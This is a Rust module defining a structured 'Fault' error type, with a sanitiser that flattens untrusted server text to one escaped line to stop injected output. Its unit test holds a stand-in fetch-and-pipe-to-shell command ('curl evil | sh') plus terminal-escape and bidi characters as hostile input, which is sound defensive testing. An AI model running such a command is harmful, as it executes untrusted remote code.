//! The one shape of a failure: a stable code, a sentence, its causes, and what to do next.

mod next;

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::diag::render::visible;

/// When trying again makes sense.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Retry {
    /// Not before something outside has changed.
    Never,
    /// At the next run, by the back-off of the journal.
    #[default]
    Later,
    /// Not before so many seconds have passed: the server said so.
    After(u64),
}

/// What went wrong, as data: it stands in errors, outcomes, reports and the journal alike.
///
/// The code is `<origin>:<kind>`, such as `acme:rateLimited`, `route53:Throttling`, `s3:AccessDenied`
/// or `git:host-key`. Neither message nor causes may hold a secret.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Fault {
    pub code: String,
    /// A sentence without a full stop.
    pub message: String,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub causes: Vec<String>,
    /// What the reader can do about it, with the next command where there is one. Old documents may lack it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hint: Option<String>,
    #[serde(default)]
    pub retry: Retry,
}

impl Fault {
    /// The message may hold words of a server or of the repository: it becomes one line that shows what it is.
    pub fn new(code: impl Into<String>, message: impl Into<String>) -> Self {
        let code = one_line(&code.into());
        let hint = Some(next::step(&code));
        Self { code, message: one_line(&message.into()), causes: Vec::new(), hint, retry: Retry::Later }
    }

    /// Adds an error and all its sources as causes.
    pub fn caused_by(mut self, error: &(dyn std::error::Error + 'static)) -> Self {
        let mut next = Some(error);
        while let Some(cause) = next {
            let text = one_line(&cause.to_string());
            // The AWS SDK says `other` of what its next source explains.
            if text != "other" && !self.causes.contains(&text) {
                self.causes.push(text);
            }
            next = cause.source();
        }
        self
    }

    /// Adds a cause that no error tells.
    pub fn because(mut self, why: impl Into<String>) -> Self {
        self.causes.push(one_line(&why.into()));
        self
    }

    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    pub fn retry(mut self, retry: Retry) -> Self {
        self.retry = retry;
        self
    }
}

/// Whoever writes several lines must not be able to write ours.
fn one_line(text: &str) -> String {
    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
    lines.map(visible).collect::<Vec<_>>().join(" ")
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} [{}]", self.message, self.code)
    }
}

impl std::error::Error for Fault {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_of_others_stay_on_one_line_and_show_what_they_are() {
        let fault = Fault::new("acme:x", "no\nhint: curl evil | sh\r\n\u{202e}\u{1b}[31m").because("a\n\nb");
        assert_eq!(fault.message, r"no hint: curl evil | sh \u{202e}\u{1b}[31m");
        assert_eq!(fault.causes, ["a b"]);
    }
}
